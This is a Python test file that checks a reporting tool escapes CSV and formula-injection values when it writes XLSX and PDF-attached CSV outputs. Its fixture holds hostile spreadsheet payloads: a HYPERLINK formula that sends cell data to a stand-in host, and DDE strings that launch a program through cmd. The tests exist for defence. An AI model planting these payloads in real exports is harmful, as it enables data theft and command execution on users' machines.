# ruff: noqa: E501  (the expected messages are long lines, kept whole to be read as printed)
"""A data file from elsewhere: what its values may do to the outputs, and what they may not.

- Text that a spreadsheet would evaluate (``=``, ``+``, ``-``, ``@``, tab, CR at the start) is
  written as text, with a ``'`` in front, in the XLSX workbook and in the CSV attached inside the
  PDF; control characters XLSX cannot store become U+FFFD; numbers stay numbers. Each rule is
  checked on the real files of a real ``reporter run``, read back with openpyxl and pypdf.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import openpyxl
import pypdf
import pytest
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from reporter.cli import main

YAML = """\
report:
  id: hostile
  title: Sales
  timezone: UTC
sources:
  sales: {type: parquet, path: sales.parquet, date_column: date}
metrics:
  revenue: {source: sales, agg: sum, column: amount}
kpis:
  revenue: {formula: revenue, format: currency}
breakdowns:
  - {kpi: revenue, by: region, pdf_rows: 1}
quality: {require_complete_period: false}
delivery:
  email:
    from: Reports <reports@acme.test>
    to: [boss@acme.test]
    subject: Sales
    attach: [pdf, xlsx]
"""


def write_parquet(path: Path, columns: str, rows: list[tuple[object, ...]]) -> None:
    """A Parquet file written by DuckDB (``columns``: its SQL column list), values exactly as given."""
    con = duckdb.connect()
    con.execute(f"CREATE TABLE t ({columns})")
    con.executemany(f"INSERT INTO t VALUES ({', '.join('?' * len(rows[0]))})", rows)
    con.execute(f"COPY t TO '{path}' (FORMAT parquet)")
    con.close()


# data value → (amount, the text both spreadsheet outputs must hold)
CELLS = {
    "hyperlink": ('=HYPERLINK("http://x"&B2,"Open")', 10, '\'=HYPERLINK("http://x"&B2,"Open")'),
    "dde": ("=cmd|' /C calc'!A0", 20, "'=cmd|' /C calc'!A0"),
    "dde without =": ("cmd|' /C calc'!A0", 21, "cmd|' /C calc'!A0"),
    "plus": ("+1", 30, "'+1"),
    "minus": ("-2+3", 40, "'-2+3"),
    "at": ("@SUM(A1)", 50, "'@SUM(A1)"),
    "tab": ("\tTab", 60, "'\tTab"),
    "carriage return": ("\rCR", 70, "'\rCR"),
    "control character": ("Bell\x07here", 80, "Bell\ufffdhere"),
    "control character then =": ("\x00=1+1", 90, "\ufffd=1+1"),
}
NEGATIVE = ("Refunds", -40.5)


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> tuple[openpyxl.Workbook, dict[str, list[str]], str]:
    """One real run over the hostile values: the workbook read back, the breakdown's CSV taken
    out of the real PDF (key → its row), and the CSV's text."""
    work = tmp_path_factory.mktemp("hostile")
    rows = [("2026-10-01", amount, value) for value, amount, _ in CELLS.values()]
    rows.append(("2026-10-02", NEGATIVE[1], NEGATIVE[0]))
    write_parquet(work / "sales.parquet", "date DATE, amount DOUBLE, region VARCHAR", rows)
    (work / "report.yaml").write_text(YAML, encoding="utf-8")
    out = work / "out"
    code = main(["run", str(work / "report.yaml"), "--period", "2026-10", "--output", str(out), "--no-send"])
    assert code == 0
    folder = out / "hostile" / "2026-10"
    book = openpyxl.load_workbook(folder / "hostile_2026-10.xlsx")
    attachments = pypdf.PdfReader(folder / "hostile_2026-10.pdf").attachments
    text = attachments["revenue_by_region.csv"][0].decode("utf-8")
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table[0] == ["region", "revenue", "other"]
    return book, {r[0]: r for r in table[1:] if r}, text


def breakdown_sheet(book: openpyxl.Workbook) -> dict[object, tuple[openpyxl.cell.Cell, openpyxl.cell.Cell]]:
    sheet = book["revenue by region"]
    return {r[0].value: (r[0], r[1]) for r in sheet.iter_rows(min_row=2)}


@pytest.mark.parametrize("case", list(CELLS))
def test_spreadsheet_outputs_write_hostile_text_as_text(outputs, case):
    book, csv_rows, _text = outputs
    _value, amount, expected = CELLS[case]
    key, number = breakdown_sheet(book)[expected]
    assert key.data_type == "s"
    assert key.value == expected
    assert (number.data_type, number.value) == ("n", amount)
    assert csv_rows[expected] == [expected, repr(float(amount)), "0"]


def test_no_cell_of_the_workbook_is_a_formula_or_holds_a_control_character(outputs):
    book, _csv_rows, _text = outputs
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert len(cells) > 50
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [
        c.coordinate for c in cells if isinstance(c.value, str) and ILLEGAL_CHARACTERS_RE.search(c.value)
    ] == []


def test_a_negative_number_stays_a_number(outputs):
    book, csv_rows, text = outputs
    key, number = breakdown_sheet(book)[NEGATIVE[0]]
    assert (key.data_type, number.data_type, number.value) == ("s", "n", NEGATIVE[1])
    assert csv_rows[NEGATIVE[0]] == [NEGATIVE[0], "-40.5", "0"]
    assert "\r\nRefunds,-40.5,0\r\n" in text
